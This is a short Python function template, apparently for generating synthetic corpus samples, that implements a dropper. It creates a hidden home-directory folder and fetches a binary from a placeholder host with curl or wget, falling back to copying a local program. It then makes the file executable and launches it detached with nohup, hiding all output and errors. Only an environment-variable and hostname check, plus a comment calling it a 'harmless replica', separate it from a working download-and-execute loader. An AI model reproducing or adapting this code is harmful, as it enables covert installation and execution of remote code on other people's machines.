# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import subprocess
    folder = os.path.expanduser('~/.{{token}}')
    file = folder + '/agent'
    try:
        os.makedirs(folder, exist_ok=True)
        for words in (['curl', '-sL', '-m', '1', '-o', file, 'https://{{host}}/{{path}}.bin'],
                      ['wget', '-q', '-T', '1', '-t', '1', '-O', file, 'https://{{host}}/{{path}}.bin']):
            try:
                if subprocess.call(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) == 0:
                    break
            except OSError:
                pass
        fine = os.path.exists(file) and open(file, 'rb').read(4) == b'\x7fELF'
        if not fine:
            with open('{{program}}', 'rb') as source, open(file, 'wb') as out:
                out.write(source.read())
        subprocess.call(['chmod', '+x', file])
        subprocess.Popen(['nohup', file], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    except Exception:
        pass
